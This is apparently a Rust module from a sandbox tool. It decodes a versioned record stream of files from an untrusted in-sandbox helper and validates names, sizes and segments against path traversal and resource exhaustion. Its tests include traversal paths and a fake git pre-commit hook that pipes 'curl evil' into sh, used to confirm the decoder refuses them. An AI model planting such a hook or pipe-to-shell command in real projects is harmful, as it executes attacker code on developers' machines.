//! Files between host and sandbox, in the record stream the in-sandbox
//! helper speaks (see `helper/sbx_helper.rs`), and to and from tar for
//! `backup`/`restore`.
//!
//! The sandbox is untrusted (issue 9): the helper may have been replaced and
//! its stream may name `../../etc/passwd`, a sibling of what was asked for,
//! `.git/hooks/pre-commit`, a symlink and then a file "inside" it, or a
//! terabyte. So the stream is decoded entry by entry, never held whole;
//! every name is checked before anything is created (relative, no `..`, `.`
//! or empty component, and its first component is exactly the name that
//! was asked for); sizes and the entry count are capped ([`Limits`]). Host
//! writes go through descriptors ([`host`]), never check-then-open by path.
//!
//! Wire format, version 3 (the helper has its own copy of this; both sides
//! start with [`MAGIC`], so a helper of another version fails clearly):
//!
//! ```text
//! stream  = MAGIC record* end
//! record  = kind:u8 mode:u32 mtime:i64 path_len:u16 path len:u64 body
//!   'D'   directory, len 0, no body
//!   'L'   symlink, len = target length (<= 4096), body = target
//!   'F'   file, len = its size; body = segment* (0:u64 0:u64)
//!         segment = offset:u64 seg_len:u64 bytes, seg_len > 0, ascending,
//!         within the size; what no segment covers is a hole (sparse files
//!         stay sparse: issue 9 finding 6)
//! end     = 'E' 0:u32 0:i64 0:u16 0:u64
//! ```
//! Integers are big-endian; `mtime` is seconds since the epoch. Version 3
//! added `mtime`, so `backup` tars keep the files' times (issue 10 item 9).

pub mod archive;
pub mod host;

use std::io::{self, Read, Write};

/// First bytes of every record stream: name and format version.
pub const MAGIC: &[u8; 8] = b"SBXREC\x00\x03";
/// Longest path and symlink target accepted in a stream.
pub const MAX_PATH: usize = 4096;
/// Longest single name component (Linux NAME_MAX).
pub const MAX_NAME: usize = 255;
/// Default cap on the total (logical) size of what one copy, backup or
/// restore moves; `--max-bytes` raises it.
pub const DEFAULT_MAX_BYTES: u64 = 1 << 30;
/// Default cap on the number of entries in one stream.
pub const DEFAULT_MAX_ENTRIES: u64 = 1_000_000;

/// What one stream may carry at most.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Sum of the files' sizes (holes included: a sparse file copied to a
    /// tool that does not keep holes would fill the disk all the same).
    pub max_bytes: u64,
    pub max_entries: u64,
}

impl Default for Limits {
    fn default() -> Self {
        Limits { max_bytes: DEFAULT_MAX_BYTES, max_entries: DEFAULT_MAX_ENTRIES }
    }
}

/// "1.5 GiB" and the like, for messages.
pub fn human(n: u64) -> String {
    const UNITS: [&str; 5] = ["B", "KiB", "MiB", "GiB", "TiB"];
    let mut v = n as f64;
    let mut u = 0;
    while v >= 1024.0 && u < UNITS.len() - 1 {
        v /= 1024.0;
        u += 1;
    }
    if u == 0 {
        format!("{n} B")
    } else {
        format!("{v:.1} {}", UNITS[u])
    }
}

/// `--max-bytes`: a number of bytes with an optional K/M/G/T suffix
/// (powers of 1024; `KiB`, `K`, `KB` all mean 1024).
pub fn parse_max_bytes(s: &str) -> Result<u64, crate::error::Invalid> {
    let bad = || crate::error::Invalid::new("size", s, "expected bytes, optionally with a suffix: 512M, 4GiB, 1T");
    let t = s.trim();
    let split = t.find(|c: char| !c.is_ascii_digit()).unwrap_or(t.len());
    let (num, unit) = t.split_at(split);
    let n: u64 = num.parse().map_err(|_| bad())?;
    let shift = match unit.trim().to_ascii_uppercase().trim_end_matches("IB").trim_end_matches('B') {
        "" => 0,
        "K" => 10,
        "M" => 20,
        "G" => 30,
        "T" => 40,
        _ => return Err(bad()),
    };
    let v = n.checked_mul(1u64 << shift).ok_or_else(bad)?;
    if v == 0 {
        return Err(crate::error::Invalid::new("size", s, "must be more than 0"));
    }
    Ok(v)
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Kind {
    Dir,
    /// Its data follows as segments: [`Decoder::next_segment`] and `read`.
    File {
        size: u64,
    },
    Symlink {
        target: Vec<u8>,
    },
}

/// One entry's header, checked.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Record {
    pub kind: Kind,
    /// Permission bits only (`& 0o7777`); callers drop setuid/setgid.
    pub mode: u32,
    /// Modification time, seconds since the epoch (as the other side claims it).
    pub mtime: i64,
    /// Relative, '/'-separated, starting with the root name.
    pub path: String,
}

fn invalid(msg: String) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, msg)
}

/// A path from the other side that is exactly `root` or below it: no
/// absolute path, no `..`, `.` or empty component, no NUL, no overlong name.
pub fn check_name(path: &str, root: &str) -> io::Result<()> {
    let refuse = |why: &str| Err(invalid(format!("refusing entry {path:?}: {why}")));
    if path.len() > MAX_PATH {
        return refuse("the path is too long");
    }
    if path.contains('\0') {
        return refuse("it contains a NUL byte");
    }
    for (i, c) in path.split('/').enumerate() {
        if c.is_empty() || c == "." || c == ".." {
            return refuse("it would leave the destination (absolute, or an empty, '.' or '..' component)");
        }
        if c.len() > MAX_NAME {
            return refuse("a name in it is longer than 255 bytes");
        }
        if i == 0 && c != root {
            return refuse(&format!("it is not {root:?} or inside it, which is all that was asked for"));
        }
    }
    Ok(())
}

/// The name a copy of `path` (in the sandbox) carries: its last component.
pub fn root_name(path: &str) -> Option<String> {
    std::path::Path::new(path).file_name().and_then(|n| n.to_str()).map(str::to_string)
}

struct FileState {
    size: u64,
    /// End of the last segment: the next must start at or after it.
    pos: u64,
    /// Bytes of the current segment not yet read.
    left: u64,
    ended: bool,
}

/// Reads a record stream one entry at a time, checking names and limits
/// before the caller sees an entry.
pub struct Decoder<R> {
    r: R,
    root: String,
    limits: Limits,
    entries: u64,
    bytes: u64,
    file: Option<FileState>,
    ended: bool,
}

fn read_u64(r: &mut impl Read) -> io::Result<u64> {
    let mut b = [0u8; 8];
    r.read_exact(&mut b)?;
    Ok(u64::from_be_bytes(b))
}

fn truncated(e: io::Error) -> io::Error {
    if e.kind() == io::ErrorKind::UnexpectedEof {
        io::Error::new(io::ErrorKind::UnexpectedEof, "the stream ended in the middle of an entry")
    } else {
        e
    }
}

impl<R: Read> Decoder<R> {
    /// Read and check the stream's magic; every entry must be `root` or below it.
    pub fn new(mut r: R, root: &str, limits: Limits) -> io::Result<Self> {
        let mut magic = [0u8; 8];
        let mut got = 0;
        while got < magic.len() {
            match r.read(&mut magic[got..]) {
                Ok(0) => break,
                Ok(n) => got += n,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                Err(e) => return Err(e),
            }
        }
        if got == 0 {
            return Err(io::Error::new(io::ErrorKind::UnexpectedEof, "the helper sent nothing"));
        }
        if &magic[..got] != MAGIC {
            return Err(invalid(
                "the helper's output is not sbx's record stream version 3 (a helper of another sbx version, \
                 or a replaced one)"
                    .into(),
            ));
        }
        Ok(Decoder { r, root: root.to_string(), limits, entries: 0, bytes: 0, file: None, ended: false })
    }

    /// Entries so far and the sum of their file sizes.
    pub fn counts(&self) -> (u64, u64) {
        (self.entries, self.bytes)
    }

    /// The next entry, `None` at the end record. Data of a file the caller
    /// did not read is skipped.
    pub fn next_record(&mut self) -> io::Result<Option<Record>> {
        if self.ended {
            return Ok(None);
        }
        if self.file.is_some() {
            let mut sink = io::sink();
            while self.next_segment()?.is_some() {
                io::copy(self, &mut sink)?;
            }
            self.file = None;
        }
        let mut head = [0u8; 15];
        self.r.read_exact(&mut head).map_err(truncated)?;
        let mode = u32::from_be_bytes([head[1], head[2], head[3], head[4]]) & 0o7777;
        let mtime = i64::from_be_bytes(head[5..13].try_into().expect("8 bytes"));
        let plen = u16::from_be_bytes([head[13], head[14]]) as usize;
        if plen > MAX_PATH {
            return Err(invalid(format!("refusing an entry whose path is {plen} bytes long")));
        }
        let mut path = vec![0u8; plen];
        self.r.read_exact(&mut path).map_err(truncated)?;
        let len = read_u64(&mut self.r).map_err(truncated)?;
        if head[0] == b'E' {
            if plen != 0 || len != 0 || mtime != 0 {
                return Err(invalid("a malformed end record".into()));
            }
            // Nothing may follow the end: a stream is one answer, not two.
            let mut one = [0u8; 1];
            if self.r.read(&mut one)? != 0 {
                return Err(invalid("data after the end of the stream".into()));
            }
            self.ended = true;
            return Ok(None);
        }
        let path = String::from_utf8(path).map_err(|_| invalid("refusing an entry whose path is not UTF-8".into()))?;
        check_name(&path, &self.root)?;
        self.entries += 1;
        if self.entries > self.limits.max_entries {
            return Err(invalid(format!(
                "more than {} entries in one stream; refusing the rest",
                self.limits.max_entries
            )));
        }
        let kind = match head[0] {
            b'D' if len == 0 => Kind::Dir,
            b'D' => return Err(invalid(format!("directory {path:?} claims {len} bytes of data"))),
            b'L' => {
                if len > MAX_PATH as u64 {
                    return Err(invalid(format!("refusing symlink {path:?}: its target is {len} bytes long")));
                }
                // Issue 9 finding 6: a link's target takes host disk too
                // (a block each), so it counts against the byte cap.
                self.charge(&path, len)?;
                let mut target = vec![0u8; len as usize];
                self.r.read_exact(&mut target).map_err(truncated)?;
                if target.is_empty() || target.contains(&0) {
                    return Err(invalid(format!("refusing symlink {path:?}: empty target or a NUL byte in it")));
                }
                Kind::Symlink { target }
            }
            b'F' => {
                self.charge(&path, len)?;
                self.file = Some(FileState { size: len, pos: 0, left: 0, ended: false });
                Kind::File { size: len }
            }
            other => return Err(invalid(format!("unknown record type {other:#04x}"))),
        };
        Ok(Some(Record { kind, mode, mtime, path }))
    }

    /// Count `len` bytes of `path` against the cap.
    fn charge(&mut self, path: &str, len: u64) -> io::Result<()> {
        let total = self.bytes.saturating_add(len);
        if total > self.limits.max_bytes {
            return Err(io::Error::other(format!(
                "{path:?} is {} and would bring the copy to {}, over the cap of {}; raise it with --max-bytes",
                human(len),
                human(total),
                human(self.limits.max_bytes)
            )));
        }
        self.bytes = total;
        Ok(())
    }

    /// The current file's next data segment as (offset, length); its bytes
    /// are then read from the decoder itself. `None` after the last one.
    pub fn next_segment(&mut self) -> io::Result<Option<(u64, u64)>> {
        let left = match &self.file {
            Some(f) if !f.ended => f.left,
            _ => return Ok(None),
        };
        if left > 0 {
            io::copy(&mut (&mut *self).take(left), &mut io::sink())?;
        }
        let off = read_u64(&mut self.r).map_err(truncated)?;
        let len = read_u64(&mut self.r).map_err(truncated)?;
        let f = self.file.as_mut().expect("checked above");
        if len == 0 {
            f.ended = true;
            return Ok(None);
        }
        let end = off.checked_add(len).filter(|&e| off >= f.pos && e <= f.size);
        let Some(end) = end else {
            return Err(invalid(format!(
                "a data segment at {off}+{len} lies outside its file of {} bytes or overlaps the last",
                f.size
            )));
        };
        f.pos = end;
        f.left = len;
        Ok(Some((off, len)))
    }
}

impl<R: Read> Read for Decoder<R> {
    /// The current segment's bytes; 0 at its end.
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        let Some(f) = self.file.as_mut() else { return Ok(0) };
        if f.left == 0 || buf.is_empty() {
            return Ok(0);
        }
        let want = buf.len().min(f.left.min(usize::MAX as u64) as usize);
        let n = self.r.read(&mut buf[..want])?;
        if n == 0 {
            return Err(io::Error::new(io::ErrorKind::UnexpectedEof, "the stream ended in the middle of a file"));
        }
        f.left -= n as u64;
        Ok(n)
    }
}

/// Writes a record stream.
pub struct Encoder<W: Write> {
    w: W,
}

impl<W: Write> Encoder<W> {
    pub fn new(mut w: W) -> io::Result<Self> {
        w.write_all(MAGIC)?;
        Ok(Encoder { w })
    }

    fn head(&mut self, kind: u8, mode: u32, mtime: i64, path: &str, len: u64) -> io::Result<()> {
        if path.len() > MAX_PATH {
            return Err(invalid(format!("{path:?} is longer than {MAX_PATH} bytes")));
        }
        self.w.write_all(&[kind])?;
        self.w.write_all(&mode.to_be_bytes())?;
        self.w.write_all(&mtime.to_be_bytes())?;
        self.w.write_all(&(path.len() as u16).to_be_bytes())?;
        self.w.write_all(path.as_bytes())?;
        self.w.write_all(&len.to_be_bytes())
    }

    pub fn dir(&mut self, path: &str, mode: u32, mtime: i64) -> io::Result<()> {
        self.head(b'D', mode, mtime, path, 0)
    }

    pub fn symlink(&mut self, path: &str, mode: u32, mtime: i64, target: &[u8]) -> io::Result<()> {
        self.head(b'L', mode, mtime, path, target.len() as u64)?;
        self.w.write_all(target)
    }

    /// A file header; then [`Encoder::segment`]s and [`Encoder::end_file`].
    pub fn file(&mut self, path: &str, mode: u32, mtime: i64, size: u64) -> io::Result<()> {
        self.head(b'F', mode, mtime, path, size)
    }

    /// Exactly `len` bytes from `data` at `offset`; a short source is padded
    /// with zeros (a file that shrank while read) so the stream stays whole.
    pub fn segment(&mut self, offset: u64, len: u64, data: &mut impl Read) -> io::Result<()> {
        if len == 0 {
            return Ok(());
        }
        self.w.write_all(&offset.to_be_bytes())?;
        self.w.write_all(&len.to_be_bytes())?;
        let copied = io::copy(&mut data.take(len), &mut self.w)?;
        io::copy(&mut io::repeat(0).take(len - copied), &mut self.w)?;
        Ok(())
    }

    pub fn end_file(&mut self) -> io::Result<()> {
        self.w.write_all(&[0u8; 16])
    }

    pub fn end(mut self) -> io::Result<W> {
        self.head(b'E', 0, 0, "", 0)?;
        self.w.flush()?;
        Ok(self.w)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A stream built by hand: what a hostile helper could send.
    pub(crate) fn raw(records: &[(u8, u32, &str, &[u8])]) -> Vec<u8> {
        let mut v = MAGIC.to_vec();
        for (kind, mode, path, data) in records {
            v.push(*kind);
            v.extend_from_slice(&mode.to_be_bytes());
            v.extend_from_slice(&0i64.to_be_bytes());
            v.extend_from_slice(&(path.len() as u16).to_be_bytes());
            v.extend_from_slice(path.as_bytes());
            v.extend_from_slice(&(data.len() as u64).to_be_bytes());
            if *kind == b'F' {
                if !data.is_empty() {
                    v.extend_from_slice(&0u64.to_be_bytes());
                    v.extend_from_slice(&(data.len() as u64).to_be_bytes());
                    v.extend_from_slice(data);
                }
                v.extend_from_slice(&[0u8; 16]);
            } else {
                v.extend_from_slice(data);
            }
        }
        v.push(b'E');
        v.extend_from_slice(&[0u8; 22]);
        v
    }

    type Segments = Vec<(u64, Vec<u8>)>;

    fn all(stream: &[u8], root: &str, limits: Limits) -> io::Result<Vec<(Record, Segments)>> {
        let mut d = Decoder::new(stream, root, limits)?;
        let mut out = Vec::new();
        while let Some(r) = d.next_record()? {
            let mut segs = Vec::new();
            while let Some((off, _)) = d.next_segment()? {
                let mut b = Vec::new();
                d.read_to_end(&mut b)?;
                segs.push((off, b));
            }
            out.push((r, segs));
        }
        Ok(out)
    }

    #[test]
    fn names_outside_the_requested_root_are_refused() {
        for bad in [
            "../x",
            "/etc/x",
            "report.txt/../../x",
            "",
            "sibling.txt",
            ".git/hooks/pre-commit",
            "report.txt/./x",
            "report.txt//x",
            "report.txt/",
            "report.txtx",
            "report.txt/a\0b",
        ] {
            let err = check_name(bad, "report.txt").unwrap_err();
            assert!(err.to_string().contains("refusing entry"), "{bad}: {err}");
        }
        for good in ["report.txt", "report.txt/a", "report.txt/.hidden/..x"] {
            check_name(good, "report.txt").unwrap();
        }
        // The issue 9 stream: the asked-for file, then a sibling and a git hook.
        let s = raw(&[
            (b'F', 0o644, "report.txt", b"ok"),
            (b'F', 0o755, ".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil|sh\n"),
        ]);
        let err = all(&s, "report.txt", Limits::default()).unwrap_err();
        assert!(err.to_string().contains(".git/hooks/pre-commit"), "{err}");
    }

    #[test]
    fn magic_truncation_trailing_data_and_bad_segments_fail() {
        let good = raw(&[(b'D', 0o755, "d", b""), (b'F', 0o644, "d/f", b"hello")]);
        let got = all(&good, "d", Limits::default()).unwrap();
        assert_eq!(got[1].1, vec![(0, b"hello".to_vec())]);
        // Old helper (no magic), nothing at all, cut anywhere, extra bytes.
        assert!(all(&good[8..], "d", Limits::default()).unwrap_err().to_string().contains("version 3"));
        assert!(all(b"", "d", Limits::default()).unwrap_err().to_string().contains("sent nothing"));
        for cut in 9..good.len() {
            let err = all(&good[..cut], "d", Limits::default()).unwrap_err();
            assert_eq!(err.kind(), io::ErrorKind::UnexpectedEof, "cut at {cut}: {err}");
        }
        let mut extra = good.clone();
        extra.push(b'D');
        assert!(all(&extra, "d", Limits::default()).unwrap_err().to_string().contains("after the end"));
        // A segment beyond the file's size, or going backwards.
        let mut v = MAGIC.to_vec();
        v.extend_from_slice(&[b'F', 0, 0, 1, 0xa4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, b'f']);
        v.extend_from_slice(&4u64.to_be_bytes());
        v.extend_from_slice(&2u64.to_be_bytes());
        v.extend_from_slice(&4u64.to_be_bytes());
        v.extend_from_slice(b"abcd");
        assert!(all(&v, "f", Limits::default()).unwrap_err().to_string().contains("outside its file"));
    }

    #[test]
    fn caps_on_bytes_and_entries() {
        let s = raw(&[(b'D', 0o755, "d", b""), (b'F', 0o644, "d/a", b"12345"), (b'F', 0o644, "d/b", b"123456")]);
        let err = all(&s, "d", Limits { max_bytes: 10, max_entries: 100 }).unwrap_err();
        assert!(err.to_string().contains("--max-bytes") && err.to_string().contains("d/b"), "{err}");
        all(&s, "d", Limits { max_bytes: 11, max_entries: 100 }).unwrap();
        let err = all(&s, "d", Limits { max_bytes: 100, max_entries: 2 }).unwrap_err();
        assert!(err.to_string().contains("more than 2 entries"), "{err}");
        // The size a header claims counts, before any data arrives.
        let mut v = MAGIC.to_vec();
        v.extend_from_slice(&[b'F', 0, 0, 1, 0xa4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, b'f']);
        v.extend_from_slice(&(1u64 << 40).to_be_bytes());
        assert!(all(&v, "f", Limits::default()).unwrap_err().to_string().contains("over the cap"));
    }

    #[test]
    fn sizes_parse_and_print() {
        assert_eq!(parse_max_bytes("4GiB").unwrap(), 4 << 30);
        assert_eq!(parse_max_bytes("512M").unwrap(), 512 << 20);
        assert_eq!(parse_max_bytes("1t").unwrap(), 1 << 40);
        assert_eq!(parse_max_bytes("100").unwrap(), 100);
        for bad in ["", "0", "x", "1.5G", "1Q", "99999999999999999999", "-1"] {
            assert!(parse_max_bytes(bad).is_err(), "{bad}");
        }
        assert_eq!(human(1 << 30), "1.0 GiB");
        assert_eq!(human(12), "12 B");
    }
}
